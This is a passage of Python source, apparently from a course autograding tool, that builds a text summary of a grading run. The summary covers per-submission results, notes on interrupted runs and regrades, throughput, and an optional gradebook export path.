            line = f"graded   {o.display}: {o.student}/{o.chapter} {o.score:g}/{o.max_score:g}"
            lines.append(line + (" | " + "; ".join(o.notes) if o.notes else ""))
        else:
            lines.append(f"{o.status:<8} {o.display}: {o.reason}")
    lines += run.notes
    if run.stopped:
        lines.append(
            "stopped (Ctrl-C or SIGTERM) before the end: the submissions graded above are recorded, none was half "
            "recorded, the others were not graded; run the same command again to grade them"
        )
    per_minute = 60 * run.count(Status.GRADED) / run.seconds if run.seconds else 0.0
    if run.count(Status.REGRADE):
        lines.append(
            f"{run.count(Status.REGRADE)} submission(s) need regrading through no fault of their own: run the same "
            "`course grade` again (on a less loaded machine, or with a larger --cell-timeout)"
        )
    lines.append(
        f"graded {run.count(Status.GRADED)}, failed {run.count(Status.FAILED)}, skipped {run.count(Status.SKIPPED)} "
        f"in {run.seconds:.1f} s ({per_minute:.1f} submissions/min, {run.workers} workers)"
        + (f"; gradebook export {run.csv_path}" if run.csv_path else "")
    )
    return "\n".join(lines)
